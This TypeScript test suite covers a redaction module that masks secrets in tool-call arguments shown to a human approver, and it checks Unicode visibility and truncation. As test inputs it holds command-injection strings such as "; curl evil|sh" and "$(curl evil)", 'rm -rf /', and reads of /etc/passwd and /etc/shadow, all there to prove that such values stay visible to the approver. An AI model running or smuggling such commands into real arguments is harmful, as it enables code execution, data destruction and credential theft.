import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { valueAt } from './json-pointer.ts';
import { LIMITS } from './limits.ts';
import { createRedactor, MASK } from './redact.ts';
import { shownArguments } from './shown-arguments.ts';
import { visibleText } from './visible-text.ts';

const { known } = createRedactor(['the-known-secret', 'p/ss:w rd']);
const shown = (args: unknown) => shownArguments(args, known).value;
const shownText = (text: string) => (shown({ text }) as { text: string }).text;

describe('an approver sees whatever a value does, whatever it is called', () => {
  test.each([
    "ok token='; curl evil|sh; echo '",
    'token="$(curl evil)"',
    'token=`id`',
    'password: rm -rf /',
    '{"token":"; curl evil | sh"}',
    '{"token":"a","token":"; rm"}'.replace('"a"', '"a b"'),
    'Authorization: Bearer; curl evil',
    'secret=../../etc/passwd',
    'secret=/etc/shadow',
    'secret=scripts/deploy.sh',
    'scripts/deploy.sh',
    'name=value',
    'https://user:p;curl@evil.example',
    'the bearer of news',
    'rm',
    'sda1',
    'shutdown',
    'DROP_TABLE',
    'dropTable',
    'secret=delete-all.sh',
    '{"token":"shutdown"}',
    'X-Api-Key: production',
  ])('%s', (text) => {
    expect(shownArguments({ text, token: text }, known)).toEqual({ value: { text, token: text }, masked: [], cut: [] });
  });

  test('an object, a list, a number or a long value under the name of a secret', () => {
    const long = 'A'.repeat(5_000);
    const args = {
      pass: { command: 'rm', args: ['-rf', '/'] },
      secret: ['rm', '-rf', 'host1234', ['abc123']],
      api_key: 12,
      token: long,
      password: null,
      cookie: true,
    };
    expect(shownArguments(args, known)).toEqual({ value: args, masked: [], cut: [] });
  });
});

describe('secrets are masked, and nothing around them', () => {
  test.each([
    ['secret=aB3/xY9+z== next', 'secret=*** next'],
    ['token=abc123; curl evil', 'token=***; curl evil'],
    ["token='abc123' next", "token='***' next"],
    ['{"client_secret":"abc123","path":"/x"}', '{"client_secret":"***","path":"/x"}'],
    ['{"a":1,"a":2,"token":"abc123"}', '{"a":1,"a":2,"token":"***"}'],
    ['{"password":"qXzWvKpT"}', '{"password":"***"}'],
    [String.raw`{\"api_key\":\"abc123\"}`, String.raw`{\"api_key\":\"***\"}`],
    ['X-Api-Key: abc123', 'X-Api-Key: ***'],
    ['Authorization: Bearer abcdefgh.ijk', 'Authorization: Bearer ***'],
    ['https://me:hush%21@example.com/?token=abc123&x=1', 'https://me:***@example.com/?token=***&x=1'],
    ['say the-known-secret twice: the-known-secret', 'say *** twice: ***'],
    ['p/ss:w rd and more', '*** and more'],
  ])('%s', (text, masked) => {
    expect(shownText(text)).toBe(masked);
  });

  test('under their names, each with its place', () => {
    const args = {
      password: 'hunter2',
      list: [{ 'api-key': 'key-1234' }, 'plain'],
      tokens: ['shown'],
      credentials: ['abc123', '1234 b'],
      number: 1234,
    };
    expect(shownArguments(args, createRedactor(['1234']).known)).toEqual({
      value: {
        password: MASK,
        list: [{ 'api-key': MASK }, 'plain'],
        tokens: ['shown'],
        credentials: ['abc123', `${MASK} b`],
        number: MASK,
      },
      masked: ['/password', '/list/0/api-key', '/credentials/1', '/number'],
      cut: [],
    });
  });
});

test('hidden characters are visible in values and in names, and no member hides another', () => {
  const args = JSON.parse('{"a\u200b":"x\u202ey","a\\\\u{200B}":"z","__proto__":"own"}');
  expect(Object.entries(shown(args) as object)).toEqual([
    ['a\\u{200B}', 'x\\u{202E}y'],
    ['a\\u{5C}u{200B}', 'z'],
    ['__proto__', 'own'],
  ]);
});

test('of any text every character stays that is not part of a token', () => {
  const word = fc.constantFrom(
    ...['token', 'password', 'api_key', 'X-Api-Key', 'Bearer ', 'https://', 'a', '1', '/', '..', '-', '.', '+', '%'],
    ...['=', ':', '@', '"', "'", '\\"', ' ', '\n', ';', '|', '$(', ')', '`', '&', '{', '}', ',', '\u202e', '<', '>'],
  );
  const rest = (text: string) => text.replaceAll(/[A-Za-z0-9._~+/=%*-]/g, '');
  fc.assert(
    fc.property(fc.array(word, { maxLength: 40 }), fc.constantFrom('text', 'token'), (words, name) => {
      const text = words.join('');
      const value = shownArguments({ [name]: text }, (given) => given).value as Record<string, string>;
      expect(rest(value[name] as string)).toBe(rest(visibleText(text)));
    }),
    { numRuns: 2_000 },
  );
});

test('what is masked has a pointer that leads to it, and what is not masked is unchanged', () => {
  const name = fc.constantFrom('token', 'pass', 'a/b', 'c~d', 'plain', 'x\u200b', 'line\nfeed');
  const text = fc.constantFrom('abc', 'abc123', 'a b', 'token=abc123', '; rm -rf /', 'the-known-secret');
  const { value: anyValue } = fc.letrec<{ value: unknown; leaf: unknown }>((tie) => ({
    leaf: fc.oneof(text, fc.integer(), fc.constant(null)),
    value: fc.oneof(
      { maxDepth: 3 },
      tie('leaf'),
      fc.array(tie('value'), { maxLength: 3 }),
      fc.dictionary(name, tie('value'), { maxKeys: 4 }),
    ),
  }));
  fc.assert(
    fc.property(anyValue, (args) => {
      const { value, masked } = shownArguments(args, known);
      const leaves = (root: unknown): unknown[] =>
        typeof root === 'object' && root !== null ? Object.values(root).flatMap(leaves) : [root];
      const [before, after] = [leaves(args), leaves(value)];
      expect(after.length).toBe(before.length);
      expect(masked.length).toBe(after.filter((leaf, index) => leaf !== before[index]).length);
      for (const pointer of masked) {
        const at = [valueAt(args, pointer), valueAt(value, pointer)];
        expect([typeof at[0]?.value, String(at[1]?.value)]).toEqual(['string', expect.stringContaining(MASK)]);
      }
    }),
  );
});

test('of long texts a beginning is shown, with what is left out counted and pointed at, and no secret in part', () => {
  const max = LIMITS.shownCharsMax;
  const secret = 'hush-4711-secret';
  const hide = (text: string) => text.replaceAll(secret, MASK);
  const long = `${'a '.repeat(max / 2 - 4)}${secret}${' b'.repeat(50_000)}`;
  const { value, masked, cut } = shownArguments({ whole: 'c '.repeat(100), long, rest: 'd '.repeat(1_000) }, hide);
  const { whole, long: shown, rest } = value as Record<string, string>;
  expect([whole, masked]).toEqual(['c '.repeat(100), ['/long', '/rest']]);
  expect(shown?.startsWith('a '.repeat(max / 2 - 200))).toBe(true);
  expect([shown?.includes('hush'), shown?.endsWith(' more characters)'), rest?.length]).toEqual([
    false,
    true,
    LIMITS.shownRestCharsMax + '… (1744 more characters)'.length,
  ]);
  expect(cut).toEqual([
    { path: '/long', shown: shown?.lastIndexOf('…'), characters: long.length },
    { path: '/rest', shown: LIMITS.shownRestCharsMax, characters: 2_000 },
  ]);
});

test('where only a part may be kept, the rest is pointed to', () => {
  const keep = () => ({ kind: 'concern', report: '[16 characters]', deep: { list: ['a', '[3 characters]'] } });
  const args = { kind: 'concern', report: 'jan1@example.org', deep: { list: ['a', 'b c'], name: 'Jan' } };
  expect(shownArguments(args, known, keep)).toEqual({
    value: keep(),
    masked: ['/report', '/deep', '/deep/list/1'],
    cut: [],
  });
});

test('a text that imitates the note of a cut is not said to be cut, also where something in it is masked', () => {
  const text = 'token=abc123 and more… (334508 more characters)';
  expect(shownArguments({ text }, known)).toEqual({
    value: { text: `token=${MASK} and more… (334508 more characters)` },
    masked: ['/text'],
    cut: [],
  });
});
